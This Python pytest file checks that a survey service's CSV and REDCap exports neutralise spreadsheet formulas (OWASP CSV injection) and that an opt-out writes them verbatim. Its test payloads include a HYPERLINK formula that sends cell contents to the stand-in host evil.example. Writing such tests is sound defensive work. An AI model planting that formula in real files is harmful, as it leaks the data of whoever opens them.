"""CSV exports are safe to open in a spreadsheet (OWASP CSV injection), with a documented opt-out.

Free text, option labels and item wording (e.g. from an imported REDCap dictionary) that start with
``= + - @``, a tab or a carriage return get a leading ``'`` in every CSV the service writes — the
long/wide/items exports, their dictionaries, the REDCap records and data dictionary — and are
written verbatim with ``escape_formulas=false``. JSON keeps the values as entered.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

import instruments
from instruments.model import Instrument, Item, Option, Scale

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "@SUM(1)", "-2+3", "\t=1", "\r=1"]

NOTES = Instrument(
    code="formnotes",
    name="Notes",
    version="1",
    citation="test",
    licence="test",
    items=tuple(Item(code=f"formnotes_t{i}", text="Tell us", kind="text", scored=False) for i in range(6))
    + (
        Item(code="formnotes_n", text="A number as text", kind="text", scored=False),
        Item(
            code="formnotes_c",
            text="=1+1 how often?",
            kind="choice",
            options=(Option(0, "@never"), Option(1, "often")),
        ),
    ),
    scales=(
        Scale(code="formnotes_often", label="C", items=("formnotes_c",), method="item", min_items=1, range=(0, 1)),
    ),
)


@pytest.fixture(scope="module")
def study(client, make_study, enrol, admin):
    instruments.register(NOTES, replace=True)
    st = make_study(waves=(("baseline", 0, 0, 14, ["formnotes"]),))
    today = datetime.now(ZoneInfo("Europe/London")).date()
    p = enrol(st, enrolled_on=str(today - timedelta(days=1)), arm="group")
    answers = {f"formnotes_t{i}": v for i, v in enumerate(PAYLOADS)}
    answers.update({"formnotes_n": "-3", "formnotes_c": 0})
    r = client.post(
        f"/participants/{p['id']}/responses",
        json={"wave": "baseline", "instrument": "formnotes", "answers": answers},
        headers=admin.headers,
    )
    assert r.status_code == 201, r.text
    yield st
    instruments.unregister("formnotes")


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _risky(cells: list[str]) -> list[str]:
    return [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].isdigit())]


def test_every_csv_neutralises_formulas_and_the_opt_out_keeps_them(client, admin, study):
    sid = study.id
    urls = [
        f"/studies/{sid}/exports/items",
        f"/studies/{sid}/exports/wide?items=true&identifiers=true",
        f"/studies/{sid}/exports/wide/dictionary?format=csv&items=true",
        f"/studies/{sid}/exports/redcap",
        f"/studies/{sid}/exports/redcap/dictionary",
    ]
    for url in urls:
        r = client.get(url, headers=admin.headers)
        assert r.status_code == 200, (url, r.text)
        cells = _cells(r.text)
        assert not _risky(cells), (url, _risky(cells))
        if "dictionary" not in url:
            for payload in PAYLOADS:
                assert "'" + payload in cells, (url, payload)
            assert "-3" in cells  # a plain number cannot carry a formula: left alone
        else:
            assert any(c.startswith("'=1+1") or c.startswith("'@never") for c in cells), url
        sep = "&" if "?" in url else "?"
        raw = client.get(f"{url}{sep}escape_formulas=false", headers=admin.headers)
        assert raw.status_code == 200
        raw_cells = _cells(raw.text)
        if "dictionary" not in url:
            assert all(p in raw_cells for p in PAYLOADS), url
        else:
            assert any(c.startswith("=1+1") or "@never" in c for c in raw_cells), url
    # JSON is data, not a spreadsheet: values stay as entered
    rows = client.get(f"/studies/{sid}/exports/items?format=json", headers=admin.headers).json()
    assert {r["value_text"] for r in rows if r["item"] == "formnotes_t0"} == {PAYLOADS[0]}
    # the audit trail records which way the file was written
    events = client.get(f"/studies/{sid}/audit", params={"action": "export"}, headers=admin.headers).json()["items"]
    assert {e["after"]["escape_formulas"] for e in events} == {True, False}
